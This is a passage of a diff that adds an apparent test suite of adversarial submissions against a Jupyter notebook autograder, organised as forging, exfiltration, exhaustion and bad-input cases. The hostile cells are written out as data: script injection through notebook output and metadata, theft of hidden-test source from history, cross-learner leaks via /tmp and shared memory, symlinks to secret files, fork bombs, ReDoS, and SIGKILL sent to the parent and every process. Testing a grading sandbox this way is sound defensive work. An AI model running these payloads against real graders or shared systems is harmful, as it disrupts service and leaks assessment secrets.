+        "from IPython.display import Javascript\nJavascript('loot(1)')",
+        r"<script[^>]*>\s*loot",
+    ),
+    (
+        "link_in_output",
+        "a link that runs a script",
+        "from IPython.display import HTML\n"
+        "HTML('<a href=\"javascript:loot()\">marks</a>')",
+        "<a [^>]*javascript:",
+    ),
+]
+
+
+def _script_in_markdown(notebook: NotebookNode) -> None:
+    notebook.cells.insert(0, nbformat.v4.new_markdown_cell(_SCRIPT))
+
+
+def _script_in_widget_state(notebook: NotebookNode) -> None:
+    notebook.metadata["widgets"] = {
+        "application/vnd.jupyter.widget-state+json": {
+            "version_major": 2,
+            "version_minor": 0,
+            "state": {"x": {"state": {"value": f"</script>{_SCRIPT}"}}},
+        }
+    }
+
+
+_TWICE = [
+    (
+        "left_in_tmp",
+        "a file left for the next learner",
+        "import os, pathlib\n"
+        "for place in ('/tmp/left', '/dev/shm/left', '/var/tmp/left'):\n"
+        "    try:\n"
+        "        if os.path.exists(place):\n            print('LOOT:', place)\n"
+        "        pathlib.Path(place).write_text('answers')\n"
+        "    except OSError:\n        pass",
+    ),
+    (
+        "left_listening",
+        "a process left to serve the next learner",
+        "import os, socket, time\n"
+        "s = socket.socket(socket.AF_UNIX)\n"
+        "try:\n"
+        "    s.connect('\\0left-listening')\n    print('LOOT: served')\n"
+        "except OSError:\n"
+        "    if os.fork() == 0:\n"
+        "        os.setsid()\n"
+        "        s = socket.socket(socket.AF_UNIX)\n"
+        "        s.bind('\\0left-listening')\n        s.listen(9)\n"
+        "        time.sleep(30)\n        os._exit(0)\n"
+        "    time.sleep(0.3)",
+    ),
+    (
+        "left_in_shared_memory",
+        "shared memory left for the next learner",
+        "from multiprocessing import shared_memory, resource_tracker\n"
+        "try:\n"
+        "    m = shared_memory.SharedMemory('left-there')\n"
+        "    print('LOOT:', m.size)\n"
+        "except FileNotFoundError:\n"
+        "    m = shared_memory.SharedMemory('left-there', True, 64)\n"
+        "    resource_tracker.unregister(m._name, 'shared_memory')",
+    ),
+]
+
+# --- too much of everything --------------------------------------------------
+
+_EXHAUSTION_CELLS = [
+    (
+        "endless_loop",
+        "a loop that ignores every signal it can",
+        "import signal\n"
+        "for number in range(1, 64):\n"
+        "    try:\n        signal.signal(number, signal.SIG_IGN)\n"
+        "    except (OSError, ValueError):\n        pass\n"
+        "while True:\n"
+        "    try:\n        pass\n    except BaseException:\n        pass",
+        True,
+    ),
+    (
+        "endless_sleep_in_c",
+        "a sleep that Python cannot interrupt",
+        "import ctypes\nctypes.PyDLL(None).sleep(10**6)",
+        True,
+    ),
+    (
+        "endless_match",
+        "a regular expression that never ends",
+        "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
+        True,
+    ),
+    (
+        "memory",
+        "all memory there is",
+        "kept = []\nwhile True:\n    kept.append(bytearray(50_000_000))",
+        False,
+    ),
+    (
+        "forks",
+        "forks that fork",
+        "import os, time\n"
+        "for _ in range(12):\n"
+        "    try:\n        os.fork()\n    except OSError:\n        pass\n"
+        "time.sleep(1)\n"
+        "os._exit(0)",
+        True,
+    ),
+    (
+        "threads",
+        "20,000 threads",
+        "import threading, time\n"
+        "for _ in range(20_000):\n"
+        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
+        False,
+    ),
+    (
+        "disk",
+        "a disk full of zeros",
+        "with open('big', 'wb') as file:\n"
+        "    for _ in range(4000):\n        file.write(bytes(2**20))",
+        False,
+    ),
+    (
+        "many_files",
+        "100,000 files",
+        "for n in range(100_000):\n    open(f'f{n}', 'w').close()",
+        False,
+    ),
+    (
+        "descriptors",
+        "every descriptor there is",
+        "kept = [open('/dev/null') for _ in range(10**6)]",
+        False,
+    ),
+    (
+        "one_long_line",
+        "100 MB in one line",
+        "print('x' * 100_000_000)",
+        False,
+    ),
+    (
+        "output_without_end",
+        "output until it is stopped",
+        "while True:\n    print('x' * 1000)",
+        True,
+    ),
+    (
+        "many_outputs",
+        "100,000 displays",
+        "from IPython.display import display\n"
+        "for n in range(100_000):\n    display(n)",
+        True,
+    ),
+    (
+        "recursion",
+        "recursion without end or limit",
+        "import sys, threading\n"
+        "sys.setrecursionlimit(10**9)\n"
+        "def f(): return f()\n"
+        "f()",
+        False,
+    ),
+    ("input", "input()", "answer = input('Your name? ')", False),
+    (
+        "segfault",
+        "a segmentation fault",
+        "import ctypes\nctypes.string_at(0)",
+        False,
+    ),
+    ("abort", "abort()", "import os\nos.abort()", False),
+    (
+        "daemon",
+        "a daemon that stays",
+        "import os, time\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n        time.sleep(600)\n"
+        "    os._exit(0)",
+        False,
+    ),
+    (
+        "zombies",
+        "200 zombies",
+        "import os\n"
+        "for _ in range(200):\n"
+        "    if os.fork() == 0:\n        os._exit(0)",
+        False,
+    ),
+    (
+        "stopped",
+        "a process that stops itself",
+        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
+        True,
+    ),
+    (
+        "signals_to_the_parent",
+        "SIGKILL to the parent and to everybody",
+        "import os, signal\n"
+        "for target in (os.getppid(), 1, -1):\n"
+        "    try:\n        os.kill(target, signal.SIGKILL)\n"
+        "    except OSError:\n        pass",
+        False,
+    ),
+    (
+        "channel_closed",
+        "every descriptor closed",
+        "import os\nos.closerange(3, 4096)",
+        False,
+    ),
+]
+
+_EXHAUSTION_ANSWERS = [
+    (
+        "hangs_when_called",
+        "a function that never returns",
+        "def double(x, times=1):\n    while True:\n        pass\n",
+        True,
+    ),
+    (
+        "stops_when_called",
+        "a function that stops its process",
+        "import os, signal\n"
+        "def double(x, times=1):\n    os.kill(os.getpid(), signal.SIGSTOP)\n",
+        True,
+    ),
+    (
+        "memory_when_called",
+        "a function that takes all memory",
+        "import torch\n"
+        "def double(x, times=1):\n    return torch.ones(10**10)\n",
+        False,
+    ),
+]
+
+
+def _many_slow_cells(notebook: NotebookNode) -> None:
+    for n in range(8):
+        notebook.cells.append(
+            nbformat.v4.new_code_cell(f"import time; time.sleep(4)  # {n}")
+        )
+
+
+# --- files that are no notebooks ---------------------------------------------
+
+
+def _bytes(content: bytes) -> Deliver:
+    def deliver(folder: Path, notebook: bytes, words: Words) -> None:
+        (folder / "03_mini.ipynb").write_bytes(content)
+
+    return deliver
+
+
+def _changed(change: Callable[[bytes], bytes]) -> Deliver:
+    def deliver(folder: Path, notebook: bytes, words: Words) -> None:
+        (folder / "03_mini.ipynb").write_bytes(change(notebook))
+
+    return deliver
+
+
+def _fifo(folder: Path, notebook: bytes, words: Words) -> None:
+    os.mkfifo(folder / "03_mini.ipynb")
+
+
+def _link_to(target: str) -> Deliver:
+    def deliver(folder: Path, notebook: bytes, words: Words) -> None:
+        (folder / "03_mini.ipynb").symlink_to(filled_in(target, words))
+
+    return deliver
+
+
+def _folder_as_notebook(folder: Path, notebook: bytes, words: Words) -> None:
+    (folder / "03_mini.ipynb").mkdir()
+
+
+def _several(folder: Path, notebook: bytes, words: Words) -> None:
+    (folder / "03_mini.ipynb").write_bytes(notebook)
+    (folder / "03_mini (1).ipynb").write_bytes(notebook)
+
+
+_BAD_INPUT = [
+    ("empty_file", "an empty file", _bytes(b"")),
+    ("truncated", "half a notebook", _changed(lambda b: b[: len(b) // 2])),
+    ("no_json", "a text", _bytes(b"dear grader, here is my work")),
+    ("binary", "random bytes", _bytes(bytes(range(256)) * 40)),
+    (
+        "utf_16",
+        "a notebook in UTF-16",
+        _changed(lambda b: b.decode().encode("utf-16")),
+    ),
+    ("json_list", "a JSON list", _bytes(b"[1, 2, 3]")),
+    ("json_depth", "JSON nested 200,000 deep", _bytes(b"[" * 200_000)),
+    (
+        "json_numbers",
+        "numbers that no notebook has",
+        _bytes(b'{"nbformat": NaN, "nbformat_minor": 1e999, "cells": []}'),
+    ),
+    (
+        "huge_integer",
+        "an integer of 100,000 digits",
+        _bytes(b'{"nbformat": ' + b"9" * 100_000 + b', "cells": []}'),
+    ),
+    (
+        "cells_as_numbers",
+        "cells that are numbers",
+        _bytes(
+            b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {},'
+            b' "cells": [1, null, "x", {"cell_type": 7, "source": 9}]}'
+        ),
+    ),
+    (
+        "version_1",
+        "a notebook of version 1",
+        _bytes(b'{"nbformat": 1, "cells": [{"code": "print(1)"}]}'),
+    ),
+    (
+        "version_3",
+        "a notebook of version 3",
+        _bytes(
+            b'{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, '
+            b'"worksheets": [{"cells": [{"cell_type": "code", "input": '
+            b'"1 + 1", "language": "python", "outputs": []}]}]}'
+        ),
+    ),
+    (
+        "version_99",
+        "a notebook of version 99",
+        _changed(lambda b: b.replace(b'"nbformat": 4', b'"nbformat": 99')),
+    ),
+    (
+        "surrogates",
+        "half a character in the source",
+        _changed(lambda b: b.replace(b"return None", b"'\\ud800'")),
+    ),
+    (
+        "null_bytes",
+        "null bytes in the source",
+        _changed(lambda b: b.replace(b"return None", b"'\\u0000'")),
+    ),
+    ("fifo", "a pipe instead of a file", _fifo),
+    (
+        "link_to_secret",
+        "a link to a file of yours",
+        _link_to("{{SECRET_FILE}}"),
+    ),
+    ("link_to_itself", "a link to itself", _link_to("03_mini.ipynb")),
+    ("link_to_device", "a link to /dev/zero", _link_to("/dev/zero")),
+    ("folder", "a folder that is called like a notebook", _folder_as_notebook),
+    ("several", "two notebooks", _several),
+]
+
+ATTACKS: list[Attack] = [
+    *(
+        Attack(name, "forging", tries, edit=edit)
+        for name, tries, edit in _METADATA
+    ),
+    *(
+        Attack(name, "forging", tries, before=cell)
+        for name, tries, cell in _FORGING_CELLS
+    ),
+    *(
+        Attack(
+            name,
+            "forging",
+            tries,
+            double=cell,
+            mean=cell if "def mean" in cell or " mean " in cell else NO_MEAN,
+        )
+        for name, tries, cell in _FORGING_ANSWERS
+    ),
+    *(
+        Attack(name, "exfiltration", tries, before=cell)
+        for name, tries, cell in _EXFILTRATION_CELLS
+    ),
+    Attack(
+        "history",
+        "exfiltration",
+        "the source of hidden tests in the history",
+        double="def double(x, times=1):\n"
+        "    shell = get_ipython()\n"
+        "    import linecache\n"
+        "    texts = [str(t) for t in getattr(shell, 'user_ns', {}).get('In', [])]\n"
+        "    texts += [''.join(v[2]) for v in linecache.cache.values()\n"
+        "              if len(v) > 2]\n"
+        "    for text in texts:\n"
+        "        if 'HIDDEN' + ' TESTS' in text or 'leaves_inputs' + '_alone('"
+        " in text:\n"
+        "            raise RuntimeError('LOOT: ' + text[:300])\n",
+    ),
+    *(
+        Attack(
+            name,
+            "exfiltration",
+            tries,
+            double=cell,
+            after="import os\n"
+            "if os.path.exists('kept'):\n    print('LOOT:', open('kept').read())"
+            if name == "kept_for_the_next_cell"
+            else "",
+        )
+        for name, tries, cell in _SMUGGLED
+    ),
+    *(
+        Attack(name, "exfiltration", tries, after=cell, harm=harm)
+        for name, tries, cell, harm in _SCRIPTS
+    ),
+    Attack(
+        "script_in_markdown",
+        "exfiltration",
+        "a script in a text cell",
+        edit=_script_in_markdown,
+        harm="<script>loot",
+    ),
+    Attack(
+        "script_in_widget_state",
+        "exfiltration",
+        "a script in the widget state",
+        edit=_script_in_widget_state,
+        harm="<script>loot",
+    ),
+    *(
+        Attack(name, "exfiltration", tries, before=cell, twice=True)
+        for name, tries, cell in _TWICE
+    ),
+    *(
+        Attack(name, "exhaustion", tries, before=cell, slow=slow)
+        for name, tries, cell, slow in _EXHAUSTION_CELLS
+    ),
+    *(
+        Attack(name, "exhaustion", tries, double=cell, slow=slow)
+        for name, tries, cell, slow in _EXHAUSTION_ANSWERS
+    ),
+    Attack(
+        "many_slow_cells",
+        "exhaustion",
+        "many cells, each just under the limit",
+        edit=_many_slow_cells,
+        slow=True,
+    ),
+    *(
+        Attack(name, "bad input", tries, deliver=deliver)
+        for name, tries, deliver in _BAD_INPUT
+    ),
+]
